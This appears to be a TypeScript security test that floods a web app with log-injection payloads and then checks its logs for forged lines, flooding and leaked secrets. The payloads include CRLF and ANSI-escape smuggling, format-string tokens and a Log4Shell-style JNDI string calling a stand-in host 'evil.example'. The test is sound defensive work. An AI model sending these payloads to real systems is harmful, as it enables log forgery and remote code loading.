import { sendRaw } from '#scripts/testing/raw-requests.ts'
import { Tally, type AttackKind, inParallel } from '../helpers/attack-kind.ts'
import { feedbackForm } from '../helpers/forms.ts'

const texts = [
  '\r\n{"level":60,"msg":"smuggled"}',
  '\u001b[31mred',
  '\u2028{"msg":"smuggled"}',
  '${jndi:ldap://evil.example/a}',
  '%0a%0d{"msg":"smuggled"}',
  '","msg":"smuggled","x":"',
  '\u0007\u0008',
  'a'.repeat(8_000),
  '%s%n%x',
  '<script>smuggled</script>',
]
const secret = 'secret-of-the-visitor'
const maxLines = 60

/** Runs last, because it also searches the log of all earlier attacks. */
export const logInjection: AttackKind = {
  name: 'forged and flooded logs, secrets in logs',
  async run(target) {
    const tally = new Tally()
    const linesBefore = toLines(target.readLog()).length
    const encodedTexts = texts.map((text) => encodeURIComponent(text))
    await inParallel(
      Array.from({ length: 1_500 }, (_, nth) => nth),
      async (nth) => {
        const text = `${encodedTexts[nth % encodedTexts.length]}${nth}`
        const cookie = `__Host-pending-sign-in=${secret}; __Host-session=${secret}; lng=${text.slice(0, 200)}`
        await target.request(`/sign-in/callback?code=${secret}&state=${text}&error=${text}`, {
          headers: { cookie, 'user-agent': text, referer: text },
        })
        if (nth % 10) return
        await target.post(
          '/feedback',
          feedbackForm({
            email: 'secret@example.org',
            message: `${secret} ${texts[nth % texts.length]}`,
          }),
        )
        await target.post(`/adminf83922ab/${text}`, { secret })
        const raw = `GET /${text} HTTP/1.1\r\nHost: a\r\nUser-Agent: \u001b[31m${secret}\r\nX: ${texts[1]}\r\nConnection: close\r\n\r\n`
        await sendRaw(target.port, raw)
      },
    )
    const allLines = toLines(target.readLog())
    const addedLines = allLines.length - linesBefore
    tally.tried += 1_500
    tally.count(addedLines <= maxLines, `1,500 requests wrote ${addedLines} lines`)
    for (const line of allLines)
      tally.count(isValidLine(line), `the log contains ${JSON.stringify(line.slice(0, 300))}`)
    const forbiddenWords = [
      secret,
      target.planted.marker,
      target.settings['GOOGLE_CLIENT_SECRET'] ?? '',
      '__Host-',
      'eyJ',
      '@example.org',
      '10.0.',
      'smuggled',
    ]
    for (const word of forbiddenWords)
      tally.count(!target.readLog().includes(word), `the log contains ${word}`)
    return tally
  },
}

const toLines = (log: string) => log.split('\n').filter(Boolean)

function isValidLine(line: string): boolean {
  try {
    return typeof JSON.parse(line) === 'object' && !/\p{Cc}/u.test(line) && line.length < 10_000
  } catch {
    return false
  }
}
